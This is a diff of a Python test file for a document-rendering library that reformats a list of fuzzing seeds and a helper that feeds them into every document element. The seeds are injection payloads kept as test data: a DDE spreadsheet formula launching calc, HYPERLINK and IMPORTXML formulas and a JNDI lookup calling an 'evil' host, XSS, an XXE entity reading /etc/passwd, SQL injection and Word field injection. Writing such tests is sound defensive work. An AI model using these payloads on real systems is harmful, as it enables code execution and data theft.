@@ -33,14 +33,56 @@ from filmdesk.paper.parts import (
 from filmdesk.paper.write import render
 
 SEEDS = (
-    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil\",\"x\")",
-    "=IMPORTXML(\"http://evil\")", "＝1+1", "+44 20 7946 0958", "-5", "@handle", "=", "#REF!", "#N/A", "{=SUM(A1)}",
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>x", "</w:t></w:r>", "]]>", "<!--", "&lt;&amp;",
-    "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "\" onclick=\"x",
-    "' or '1'='1", "INCLUDEPICTURE \"http://evil\"", "DDEAUTO c:\\\\x", "<w:fldSimple w:instr=\"DDE\"/>",
-    "_x0041_", "\x00\x01\x02", "a\x0bb\x0cc", "\ud800", "\ufffe\uffff", "\u202eevil\u202c", "\u200bhidden\ufeff",
-    "javascript:alert(1)", "file:///etc/passwd", "\\\\evil\\share", ") Tj ET (", "\\( \\)", "%PDF-1.4", "endstream",
-    "{{7*7}}", "${jndi:ldap://evil}", "%n%s", "😀 family 👩‍👩‍👧", "a" * 40_000,
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil","x")',
+    '=IMPORTXML("http://evil")',
+    "＝1+1",
+    "+44 20 7946 0958",
+    "-5",
+    "@handle",
+    "=",
+    "#REF!",
+    "#N/A",
+    "{=SUM(A1)}",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<b>x",
+    "</w:t></w:r>",
+    "]]>",
+    "<!--",
+    "&lt;&amp;",
+    '<?xml version="1.0"?>',
+    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+    '" onclick="x',
+    "' or '1'='1",
+    'INCLUDEPICTURE "http://evil"',
+    "DDEAUTO c:\\\\x",
+    '<w:fldSimple w:instr="DDE"/>',
+    "_x0041_",
+    "\x00\x01\x02",
+    "a\x0bb\x0cc",
+    "\ud800",
+    "\ufffe\uffff",
+    "\u202eevil\u202c",
+    "\u200bhidden\ufeff",
+    "javascript:alert(1)",
+    "file:///etc/passwd",
+    "\\\\evil\\share",
+    ") Tj ET (",
+    "\\( \\)",
+    "%PDF-1.4",
+    "endstream",
+    "{{7*7}}",
+    "${jndi:ldap://evil}",
+    "%n%s",
+    "😀 family 👩‍👩‍👧",
+    "a" * 40_000,
 )
 PAYLOADS = [*SEEDS, *(f"ok {seed}" for seed in SEEDS)]
 
@@ -51,11 +93,26 @@ def hostile(text: str) -> Paper:
     table = Table("t", columns, (row,), ((Cell(text),),), title=text)
     lines = Lines((LinesPage(text[:10], (Line(3, 15, (Run(text[:200]),), text[:30]),), ((text, 3),)),))
     return Paper(
-        text, (Heading(text, note=text), Paragraph((Run(text, bold=True), Run(text))), Fields(((text, text),)),
-               Figure(text, text, (text,)), table, Blank(text, text, text), Signature(text, text), Sheet(text),
-               Table("u", (TableColumn("a", "A"),), (), empty=text), lines),
-        Head((text, text), (text,)), foot=text, watermark=text[:80], author=text, language=text[:8],
-        origin=Origin(text, text, text, text))
+        text,
+        (
+            Heading(text, note=text),
+            Paragraph((Run(text, bold=True), Run(text))),
+            Fields(((text, text),)),
+            Figure(text, text, (text,)),
+            table,
+            Blank(text, text, text),
+            Signature(text, text),
+            Sheet(text),
+            Table("u", (TableColumn("a", "A"),), (), empty=text),
+            lines,
+        ),
+        Head((text, text), (text,)),
+        foot=text,
+        watermark=text[:80],
+        author=text,
+        language=text[:8],
+        origin=Origin(text, text, text, text),
+    )
 
 
 def test_there_are_a_hundred_payloads() -> None:
@@ -82,8 +139,11 @@ def test_every_text_is_text_when_a_workbook_is_read_again() -> None:
 def test_telephone_numbers_and_handles_stay_as_they_are_in_excel() -> None:
     for text in ("+44 20 7946 0958", "@handle", "-5", "=1+1", "'quoted"):
         table = Table("t", (TableColumn("a", "A"),), (Row((Cell(text),)),))
-        values = [cell.value for row in load_workbook(BytesIO(render(Paper("P", (table,)), "xlsx"))).active.iter_rows()
-                  for cell in row]
+        values = [
+            cell.value
+            for row in load_workbook(BytesIO(render(Paper("P", (table,)), "xlsx"))).active.iter_rows()
+            for cell in row
+        ]
         assert text in values
 
 
